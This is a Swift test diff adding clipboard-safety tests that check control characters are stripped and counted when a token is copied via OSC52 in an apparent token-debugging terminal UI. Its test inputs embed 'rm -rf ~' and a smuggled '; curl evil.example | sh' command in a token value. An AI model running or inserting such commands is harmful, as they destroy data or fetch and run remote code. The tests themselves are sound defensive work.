@@ -311,3 +311,27 @@ extension Fixture {
         #expect(ui.logSelection == state.log.first { $0.type == "token.request" }?.seq)
     }
 }
+
+@Suite struct ClipboardSafetyTests {
+    @Test func controlCharactersAreStrippedAndCounted() {
+        let (text, removed) = OSC52.clipboardText("at-1\nrm -rf ~\u{1b}]0;x\u{07}\u{7f}\u{85}\u{202e}\tend")
+        #expect(text == "at-1rm -rf ~]0;xend")
+        #expect(removed == 7)
+        #expect(OSC52.clipboardText("plain-token.value_~").removed == 0)
+    }
+
+    @Test func aRevealedTokenIsCopiedWithoutControlCharactersAndTheStatusLineSaysSo() throws {
+        var s = Fixture.success
+        s.add(.tokenExchanged(TokenExchanged(tokenType: "Bearer", expiresIn: 60, scope: nil,
+                                             accessToken: Sensitive(clear: "at-2\n; curl evil.example | sh\r\u{1b}[2J", redacted: "…(36)"),
+                                             refreshToken: nil, idToken: nil, extra: nil)))
+        var ui = UIState.test
+        ui.followsCurrentStep = false
+        ui.selectedStep = .tokenExchanged
+        _ = ui.handle(.char("r"), state: s.state)
+        let effects = ui.handle(.char("y"), state: s.state)
+        #expect(effects == [.copy("at-2; curl evil.example | sh[2J")])
+        let notice = try #require(ui.notice)
+        #expect(notice.contains("3 control characters were removed"), "\(notice)")
+    }
+}
